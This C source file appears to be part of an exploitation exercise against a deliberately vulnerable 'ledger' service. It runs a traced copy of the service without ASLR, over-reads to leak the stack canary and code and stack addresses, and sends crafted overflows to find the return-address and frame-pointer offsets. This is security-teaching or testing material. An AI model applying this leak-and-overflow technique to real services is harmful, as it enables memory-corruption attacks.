/* SPDX-License-Identifier: BSD-2-Clause */
/* The attacker runs a copy of the service under a debugger. */
#include "rehearse.h"

#include <elf.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attempt.h"
#include "ledger.h"
#include "score.h"
#include "vulnerable.h"

/* Addresses at which nothing is, easy to know again. */
#define MARK_RETURN 0x414141414140ul
#define MARK_BASE 0x424242424240ul
enum { ABOVE = 40, CANARY_AT_LEAST = NOTE_BYTES / 8, NO_SLOT = 0 };

static const char *program;
static char copy_socket[32];
static int listener = -1, memory = -1;

static bool make_stage(void)
{
    struct sockaddr_un address = { .sun_family = AF_UNIX };
    int s = socket(AF_UNIX, SOCK_SEQPACKET, 0);
    int m = memfd_create("copy", MFD_CLOEXEC);

    (void)snprintf(copy_socket, sizeof(copy_socket), "/tmp/copy.%d", (int)getpid());
    (void)strcpy(address.sun_path, copy_socket);
    if (s < 0 || m < 0 || bind(s, (const struct sockaddr *)&address, sizeof(address)) != 0 ||
        listen(s, 1) != 0 || ftruncate(m, EXHIBIT_BYTES) != 0) {
        return false;
    }
    listener = fcntl(s, F_DUPFD_CLOEXEC, ABOVE);
    memory = fcntl(m, F_DUPFD_CLOEXEC, ABOVE);
    (void)close(s);
    (void)close(m);
    return listener >= 0 && memory >= 0;
}

/* Starts a copy that this process traces. */
static pid_t start_copy(void)
{
    pid_t child = fork();
    int status;

    if (child == 0) {
        (void)dup2(memory, FD_EXHIBIT);
        (void)dup2(listener, FD_LEDGER);
        (void)freopen("/dev/null", "w", stderr); /* what the copy says when it crashes */
        (void)personality(ADDR_NO_RANDOMIZE);
        (void)ptrace(PTRACE_TRACEME, 0, NULL, NULL);
        (void)execl(program, "ledger", "worker", "processes", (char *)NULL);
        _exit(127);
    }
    if (child > 0 && waitpid(child, &status, 0) == child && WIFSTOPPED(status)) {
        (void)ptrace(PTRACE_CONT, child, NULL, NULL);
    }
    return child;
}

static void end_copy(pid_t child, int connection)
{
    (void)close(connection);
    (void)kill(child, SIGKILL);
    while (waitpid(child, NULL, 0) == child) {
    }
}

bool rehearse_leak(int connection, uint64_t *words)
{
    struct message m = { .claim = LEDGER_ATTACKER, .label = LEDGER_READ, .count = 1,
                         .words = { MESSAGE_WORDS } };

    if (!channel_call(connection, &m, -1) || m.count != MESSAGE_WORDS) {
        return false;
    }
    memcpy(words, m.words, sizeof(m.words));
    return true;
}

struct space {
    uint64_t start, end, stack, stack_end;
};

/* Where program and stack are, from /proc/PID/maps. */
static bool read_space(pid_t child, struct space *space)
{
    char path[64], line[256];
    unsigned long from, to;
    FILE *maps;

    memset(space, 0, sizeof(*space));
    (void)snprintf(path, sizeof(path), "/proc/%d/maps", (int)child);
    if ((maps = fopen(path, "re")) == NULL) {
        return false;
    }
    while (fgets(line, sizeof(line), maps) != NULL) {
        if (sscanf(line, "%lx-%lx", &from, &to) != 2) {
            continue;
        }
        if (strstr(line, "r-xp") != NULL && strstr(line, "/ledger") != NULL) {
            space->start = from;
            space->end = to;
        }
        if (strstr(line, "[stack]") != NULL) {
            space->stack = from;
            space->stack_end = to;
        }
    }
    (void)fclose(maps);
    return space->start != 0 && space->stack != 0;
}

/* Which words behind a note are canary, code address, stack address. */
static bool read_words(const uint64_t *words, const struct space *space, struct rehearsed *r)
{
    for (unsigned i = CANARY_AT_LEAST; i < MESSAGE_WORDS; i++) {
        uint64_t w = words[i];

        if (r->canary == 0 && w >> 48 != 0 && (w & 0xff) == 0) {
            r->canary = i;
        } else if (r->code == 0 && w >= space->start && w < space->end) {
            r->code = i;
            r->code_offset = w - space->start;
        } else if (r->stack == 0 && w >= space->stack && w < space->stack_end) {
            r->stack = i;
        }
    }
    return r->canary != 0 && r->code != 0 && r->stack != 0;
}

/* Where the buffer of the last note was: its text is still there. */
static uint64_t find_note(pid_t child, const struct space *space)
{
    static unsigned char stack[1 << 16];
    uint64_t from = space->stack_end - sizeof(stack);
    struct iovec own = { stack, sizeof(stack) };
    struct iovec other = { (void *)from, sizeof(stack) };

    if (from < space->stack) {
        from = space->stack;
        other = (struct iovec){ (void *)from, space->stack_end - from };
        own.iov_len = other.iov_len;
    }
    if (process_vm_readv(child, &own, 1, &other, 1, 0) != (ssize_t)own.iov_len) {
        return 0;
    }
    for (size_t i = 0; i + NOTE_BYTES <= own.iov_len; i += 8) {
        if (memcmp(stack + i, attacker_post, NOTE_BYTES) == 0) {
            return from + i;
        }
    }
    return 0;
}

static void fill(unsigned char byte)
{
    memset(attacker_post, byte, NOTE_BYTES);
}

/* One copy, one over-read, one honest note.  Returns the address of its buffer; 0: no luck. */
static uint64_t look(struct rehearsed *r)
{
    pid_t child = start_copy();
    int connection = attacker_connect_to(copy_socket);
    uint64_t words[MESSAGE_WORDS], note = 0;
    struct space space;

    fill('r');
    if (rehearse_leak(connection, words) && read_space(child, &space) &&
        read_words(words, &space, r)) {
        fill('n');
        if (attacker_note(connection, NOTE_BYTES)) {
            note = find_note(child, &space);
            r->stack_offset = words[r->stack] - note;
        }
    }
    end_copy(child, connection);
    return note;
}

/* Overflows with the right canary in every word but those of the slots.  True if it returned to the
   word in `return_slot`; then *registers are those of the crash. */
static bool crash(const struct rehearsed *r, unsigned return_slot, unsigned base_slot,
                  struct user_regs_struct *registers)
{
    struct iovec vector = { registers, sizeof(*registers) };
    pid_t child = start_copy();
    int connection = attacker_connect_to(copy_socket), status = 0;
    uint64_t words[MESSAGE_WORDS], note[FRAME_WORDS];
    bool ok = rehearse_leak(connection, words);

    for (size_t i = 0; i < FRAME_WORDS; i++) {
        note[i] = words[r->canary];
    }
    note[return_slot] = MARK_RETURN;
    if (base_slot != NO_SLOT) {
        note[base_slot] = MARK_BASE;
    }
    memcpy(attacker_post, note, sizeof(note));
    if (ok) {
        struct message m = { .claim = LEDGER_ATTACKER, .label = LEDGER_NOTE, .count = 1,
                             .words = { sizeof(note) } };

        /* No answer is waited for: the copy stops. */
        ok = send(connection, &m, offsetof(struct message, words) + 8, MSG_NOSIGNAL) > 0 &&
             waitpid(child, &status, 0) == child && WIFSTOPPED(status) &&
             WSTOPSIG(status) == SIGSEGV &&
             ptrace(PTRACE_GETREGSET, child, NT_PRSTATUS, &vector) == 0 &&
             registers->pc == MARK_RETURN;
    }
    end_copy(child, connection);
    return ok;
}

bool rehearse(const char *path, unsigned base, struct rehearsed *r)
{
    struct user_regs_struct registers = { 0 };
    uint64_t note;

    memset(r, 0, sizeof(*r));
    program = path;
    if (!make_stage() || (note = look(r)) == 0) {
        return false;
    }
    for (unsigned i = CANARY_AT_LEAST; i < FRAME_WORDS && r->return_slot == NO_SLOT; i++) {
        if (crash(r, i, NO_SLOT, &registers)) {
            r->return_slot = i;
            r->sp_offset = registers.sp - note;
        }
    }
    for (unsigned i = CANARY_AT_LEAST; r->return_slot != NO_SLOT && i < FRAME_WORDS; i++) {
        if (i != r->return_slot && crash(r, r->return_slot, i, &registers) &&
            registers.regs[base] == MARK_BASE) {
            r->base_slot = i;
            return true;
        }
    }
    return false;
}
